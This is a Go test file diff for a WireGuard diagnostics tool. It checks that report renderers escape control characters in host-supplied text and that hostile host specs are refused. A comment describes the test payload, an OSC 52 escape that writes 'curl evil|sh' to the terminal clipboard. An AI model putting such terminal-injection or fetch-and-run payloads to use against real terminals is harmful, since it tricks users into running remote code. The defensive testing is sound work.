@@ -18,6 +18,7 @@ import (
 	"github.com/wgperf/wgperf/internal/probe/mtu"
 	"github.com/wgperf/wgperf/internal/shell"
 	"github.com/wgperf/wgperf/internal/target"
+	"github.com/wgperf/wgperf/internal/target/targettest"
 )
 
 // osc52 writes "curl evil|sh" to the clipboard of the terminal that shows it;
@@ -123,9 +124,11 @@ func jsonEscape(s string) string {
 }
 
 // TestEveryRendererEscapesForeignText is issue 30 item 8 renderer by
-// renderer: a host's text (its name, as a host would print it) carrying an
-// OSC 52 clipboard write and a screen clear is put into the recorded results
-// of bench, mtu, icmp-burst, diagnose and a fix journal, and each text
+// renderer: a host's text (an address, an interface or nft table name, as
+// a host would print it) carrying an OSC 52 clipboard write and a screen
+// clear is put into the recorded results of bench, mtu, icmp-burst,
+// diagnose and a fix journal (a host's spec cannot carry it: it reads back
+// only as a target spec, TestHostileSpecRefused), and each text
 // renderer writes it through wgperf's standard output, not a terminal: no
 // raw control character comes out, the text does, escaped.
 func TestEveryRendererEscapesForeignText(t *testing.T) {
@@ -144,16 +147,16 @@ func TestEveryRendererEscapesForeignText(t *testing.T) {
 		}
 		return v
 	}
-	journal := &fix.Journal{ID: "20260101T000000.000000000Z", Host: "local", State: fix.StateConfirming,
+	journal := &fix.Journal{ID: "20260101T000000.000000000Z", Host: targettest.Spec("local"), State: fix.StateConfirming,
 		Entries: []fix.Entry{{Findings: []finding.ID{"mtu.tunnel-too-large"}, Description: "set the MTU of wg0" + evil, Status: fix.EntryApplied,
 			Error: "ssh: " + evil}}}
 	for _, tc := range []struct {
 		name string
 		v    textWriter
 	}{
-		{"bench", load("../../testdata/report/bench.json", "netns:wgl-wgh2", &bench.Report{}).(textWriter)},
+		{"bench", load("../../testdata/report/bench.json", "10.77.0.2", &bench.Report{}).(textWriter)},
 		{"mtu", load("../../testdata/report/mtu.json", "203.0.113.2", &mtu.Result{}).(textWriter)},
-		{"icmp-burst", load("../../testdata/report/icmp-burst.json", "netns:a", &icmpburst.Result{}).(textWriter)},
+		{"icmp-burst", load("../../testdata/report/icmp-burst.json", "banIP", &icmpburst.Result{}).(textWriter)},
 		{"fix journal", journal},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
@@ -174,7 +177,7 @@ func TestEveryRendererEscapesForeignText(t *testing.T) {
 		})
 	}
 	var d diagnose.Diagnosis
-	load("../../internal/diagnose/testdata/diagnosis.json", "netns:wgl-wgd4", &d)
+	load("../../internal/diagnose/testdata/diagnosis.json", "wg-wgd4", &d)
 	var b bytes.Buffer
 	out := &stdoutWriter{TerminalWriter: shell.NewTerminalWriter(&b)}
 	if err := (diagnose.Command{Color: useColor(out), Version: version}).Print(out, d, nil); err != nil {
@@ -183,5 +186,24 @@ func TestEveryRendererEscapesForeignText(t *testing.T) {
 	_ = out.Flush()
 	if m := rawControl.FindString(b.String()); m != "" || !strings.Contains(b.String(), `\x1b]52;`) {
 		t.Errorf("diagnose: raw %q, or the host's text missing:\n%s", m, b.String())
+	}
+}
+
+// TestHostileSpecRefused: a recorded result whose host carries control
+// characters is refused as it is read, in one line that shows them escaped,
+// so no renderer ever gets it.
+func TestHostileSpecRefused(t *testing.T) {
+	raw, err := os.ReadFile("../../testdata/report/bench.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	hostile := strings.Replace(string(raw), "netns:wgl-wgh2-a", "netns:wgl-wgh2-a"+jsonEscape(osc52+clear), 1)
+	var r bench.Report
+	err = json.Unmarshal([]byte(hostile), &r)
+	if err == nil {
+		t.Fatalf("read as client %q", r.Client)
+	}
+	if m := rawControl.FindString(err.Error()); m != "" || strings.Contains(err.Error(), "\n") || !strings.Contains(err.Error(), "netns name must be a plain name") {
+		t.Errorf("error %q: want one line, escaped, saying why", err)
 	}
 }
